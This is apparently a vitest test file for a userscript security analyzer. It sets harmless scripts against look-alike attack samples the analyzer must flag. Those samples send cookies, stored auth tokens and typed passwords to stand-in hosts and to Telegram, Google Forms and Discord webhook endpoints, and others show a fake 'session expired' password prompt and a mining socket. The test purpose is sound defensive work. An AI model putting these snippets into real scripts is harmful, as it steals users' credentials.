import { describe, expect, test } from "vitest";
import { analyzeScript } from "./analyze-script.ts";
import { userscript } from "./testing/find-in.ts";

/** Harmless scripts that were once said to look like an attack, and a script of the same look that is one. */
interface Kind {
	readonly name: string;
	readonly head?: readonly string[];
	readonly harmless: readonly string[];
	readonly attacks: readonly string[];
}

const SITE = ["match https://intranet.example.com/*"];
const GRANTED = [...SITE, "grant GM_xmlhttpRequest"];
const SEND_COOKIE = `fetch("https://c.stranger.test/?" + document.cookie)`;

const KINDS: readonly Kind[] = [
	{
		name: "objects of the browser that send nothing",
		head: GRANTED,
		harmless: [
			`console.log("https://abs.example.net/x", document.cookie);`,
			`fetch("/a").catch((error) => console.error("https://docs.example.net/errors", error, document.cookie));`,
			`console.table({ url: "https://c.stranger.test", cookie: document.cookie }); performance.mark(document.cookie);`,
		],
		attacks: [
			`console.log = (text) => ${SEND_COOKIE}; console.log("x");`,
			`const log = (url, data) => fetch(url, { method: "POST", body: data }); log("https://abs.example.net/x", document.cookie);`,
		],
	},
	{
		name: "fields that an object of a library inserts into the page",
		head: GRANTED,
		harmless: [
			`editor.container(document.body).insertAdjacentHTML("beforeend", '<input id="linkParser">');
			 const field = document.getElementById("linkParser");
			 field.addEventListener("input", () => GM_xmlhttpRequest({ url: "https://find.example.org/?q=" + field.value, onload: (r) => console.log(r.responseText) }));`,
		],
		attacks: [
			`editor.container(document.body).insertAdjacentHTML("beforeend", '<input id="linkParser">');
			 const field = document.getElementById("login-password");
			 field.addEventListener("input", () => GM_xmlhttpRequest({ url: "https://find.stranger.test/?q=" + field.value }));`,
		],
	},
	{
		name: "links that jQuery makes of markup with unknown parts",
		head: ["match https://intranet.example.com/*"],
		harmless: [
			`const a = $('<a href="#"><img title="' + document.title + '"></a>'); a.attr("href", "//ids.example.org/track/" + 7); $("#list").append(a);`,
			`const a = jQuery("<a class='" + Date.now() + "'>more</a>"); a.prop("href", "https://ids.example.org/"); a.appendTo("body");`,
			`$("<a data-id=" + Date.now() + ">").attr({ href: "https://ids.example.org/" }).insertAfter("#list");`,
		],
		attacks: [
			`const a = $('<a title="' + Date.now() + '">'); a.attr("href", "https://c.stranger.test/?" + document.cookie); a.appendTo("body"); a[0].click();`,
		],
	},
	{
		name: "storage that the script fills itself",
		harmless: [
			`const cache = JSON.parse(localStorage.getItem("ratings-cache") || "{}");
			 async function ask(id) { if (cache[id]) return fetch("https://ratings.example.org/a/" + cache[id]).then((r) => r.json());
			 const found = await (await fetch("https://ratings.example.org/find/" + id)).json(); cache[id] = found.key; localStorage.setItem("ratings-cache", JSON.stringify(cache)); return found; }
			 ask(7).then((rating) => document.body.append(rating.text));`,
			`const open = indexedDB.open("my-script"); open.onupgradeneeded = () => open.result.createObjectStore("seen");
			 open.onsuccess = () => { const all = open.result.transaction("seen").objectStore("seen").getAll(); all.onsuccess = () => fetch("https://sync.example.org/", { method: "POST", body: JSON.stringify(all.result) }).then((r) => r.json()).then(console.log); };`,
			`sessionStorage.setItem("script-position", String(scrollY)); const at = sessionStorage.getItem("script-position"); fetch("https://sync.example.org/?at=" + at).then((r) => r.text()).then(console.log);`,
		],
		attacks: [
			`localStorage.setItem("ratings-cache", "{}"); fetch("https://c.stranger.test/", { method: "POST", body: JSON.stringify(localStorage) });`,
			`const open = indexedDB.open("firebaseLocalStorageDb"); open.onsuccess = () => { const all = open.result.transaction("s").objectStore("s").getAll(); all.onsuccess = () => fetch("https://c.stranger.test/", { method: "POST", body: JSON.stringify(all.result) }); };`,
			`localStorage.setItem("persist:root", localStorage.getItem("persist:root")); fetch("https://c.stranger.test/", { method: "POST", body: localStorage.getItem("persist:root") });`,
			`localStorage.setItem("access_token", localStorage.getItem("access_token")); fetch("https://c.stranger.test/?" + localStorage.getItem("access_token"));`,
		],
	},
	{
		name: "servers of the site's own organization",
		head: ["match https://x.com/*"],
		harmless: [
			`fetch("https://abs.twimg.com/i?" + document.cookie);`,
			`fetch("https://api.twitter.com/1.1/x.json", { headers: { authorization: localStorage.getItem("auth_token") } });`,
			`document.querySelectorAll("article").forEach((a) => fetch("https://pbs.twimg.com/c?" + a.textContent));`,
		],
		attacks: [
			`fetch("https://abs.twimg.stranger.test/i?" + document.cookie);`,
			`fetch("https://twimg.co/i?" + document.cookie);`,
			`fetch("https://api.telegram.org/bot1/sendMessage?text=" + document.cookie);`,
		],
	},
	{
		name: "places on the site's own servers where strangers receive",
		head: ["match https://docs.google.com/*"],
		harmless: [`fetch("https://docs.google.com/document/u/0/export?c=" + document.cookie);`],
		attacks: [
			`fetch("https://script.google.com/macros/s/AKfy/exec?c=" + document.cookie);`,
			`fetch("https://docs.google.com/forms/d/e/1FA/formResponse?entry.1=" + document.cookie, { mode: "no-cors" });`,
			`fetch("https://storage.googleapis.com/bucket/x", { method: "PUT", body: document.cookie });`,
		],
	},
	{
		name: "webhooks on the chat's own pages",
		head: ["match https://discord.com/*"],
		harmless: [`fetch("/api/v9/users/@me");`, `fetch("https://cdn.discordapp.com/a.png?" + document.title);`],
		attacks: [
			`fetch("https://discord.com/api/webhooks/1/abc", { method: "POST", body: document.cookie });`,
			`fetch("/api/webhooks/1/abc", { method: "POST", body: document.cookie });`,
		],
	},
	{
		name: "words that once made a level",
		harmless: [
			`const field = document.createElement("input"); field.id = "credit-note"; document.body.append(field); field.onchange = () => { const link = document.createElement("a"); link.href = "https://example.org/#" + field.value; document.body.append(link); };`,
			`document.querySelector("[data-testid=cookie-banner] button").click();`,
			`document.querySelectorAll('a[href*="?ref="]').forEach((a) => { a.href = a.href.split("?ref")[0]; });`,
			`function md5(text) { let a = 0x67452301; for (const sign of text) a = (a ^ sign.charCodeAt(0)) >>> 0; return a.toString(16); }
			 const nonce = 1, hash = md5("a"), target = 2, job = 3, share = 4, worker = 5; const image = new Image(); image.src = "https://img.example.org/" + hash; document.body.append(image);`,
		],
		attacks: [
			`const shown = document.createElement("div"); shown.innerHTML = '<p>Your session has expired</p><input id="pw" type="password" placeholder="Password">'; document.body.append(shown); shown.querySelector("#pw").onchange = (event) => fetch("https://c.stranger.test/", { method: "POST", body: event.target.value });`,
			`const socket = new WebSocket("wss://pool.stranger.test"); socket.onopen = () => socket.send(JSON.stringify({ method: "mining.subscribe" }));`,
		],
	},
	{
		name: "what the visitor agreed to",
		harmless: [
			`if (confirm("Go to the project page?")) location.href = "https://github.com/a/b";`,
			`function visit() { const agreed = window.confirm("Open the forum?"); if (!agreed) return; location.href = "https://forum.example.org/"; } setTimeout(visit, 100);`,
			`confirm("Open the list?") && (location.href = "https://list.example.org/");`,
		],
		attacks: [
			`if (confirm("Go on?")) ${SEND_COOKIE};`,
			`if (!confirm("Cookies?")) location.href = "/"; else ${SEND_COOKIE};`,
		],
	},
	{
		name: "the window of a script with grants",
		head: GRANTED,
		harmless: [
			`window.env = { xhr: GM_xmlhttpRequest }; env.xhr({ url: "https://intranet.example.com/a", onload: () => {} });`,
			`self.request = GM_xmlhttpRequest;`,
			`globalThis.tools = { get: (url) => GM_xmlhttpRequest({ url }) };`,
		],
		attacks: [`unsafeWindow.send = GM_xmlhttpRequest; fetch("https://c.stranger.test/?" + document.cookie);`],
	},
	{
		name: "a name of the site in the name of a server",
		head: ["match https://www.tinder-dates.com/*"],
		harmless: [
			`fetch("https://img.tinder-datesimg.net/a.png?" + document.title);`,
			`document.querySelectorAll("h1").forEach((h) => fetch("https://tinder-datescdn.com/" + h.textContent).then((r) => r.json()).then(console.log));`,
		],
		attacks: [
			`fetch("https://tinder-dates.evil.test/?" + document.cookie);`,
			`fetch("https://tinder-dates.net/?" + document.cookie);`,
		],
	},
];

describe.each(KINDS)("$name", ({ head = SITE, harmless, attacks }) => {
	test.each(harmless)("is rated Low: %s", (code) => {
		const { risk_level, vulnerabilities } = analyzeScript({ code: userscript(head, code) });
		expect([risk_level, vulnerabilities.filter(({ severity }) => severity !== "low")]).toEqual(["green", []]);
	});

	test.each(attacks)("is no excuse for: %s", (code) => {
		expect(analyzeScript({ code: userscript(head, code) }).risk_level).toBe("red");
	});
});
